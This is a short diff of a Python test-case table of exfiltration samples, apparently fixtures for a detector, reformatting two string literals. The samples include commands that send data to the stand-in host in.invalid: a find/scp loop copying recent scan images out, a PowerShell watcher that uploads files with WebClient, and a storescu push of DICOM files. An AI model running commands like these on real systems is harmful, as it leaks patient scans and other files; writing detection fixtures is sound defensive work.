@@ -255,8 +255,10 @@ EXFIL: tuple[Case, ...] = (
                 "done",
             ),
             sh("find /var/scans -mmin -5 -name '*.img' -exec scp {} in.invalid: \\;"),
-            "$w = New-Object IO.FileSystemWatcher\n(New-Object Net.WebClient)"
-            ".UploadFile('https://in.invalid/', $f)",
+            (
+                "$w = New-Object IO.FileSystemWatcher\n(New-Object Net.WebClient)"
+                ".UploadFile('https://in.invalid/', $f)"
+            ),
         ),
         (
             sh("inotifywait -m -e close_write /etc | while read p e f; do reload; done"),
@@ -267,8 +269,10 @@ EXFIL: tuple[Case, ...] = (
         "exfil_image_store",
         (
             sh("storescu -aec ARCHIVE in.invalid 11112 /var/scans/a.dcm"),
-            "requests.post(base + '/dicom-web/studies', headers="
-            "{'Content-Type': 'application/dicom+json'})",
+            (
+                "requests.post(base + '/dicom-web/studies', headers="
+                "{'Content-Type': 'application/dicom+json'})"
+            ),
         ),
         (sh("storescu --version"), sh("dcmdump a.dcm"), "application/dicom"),
     ),
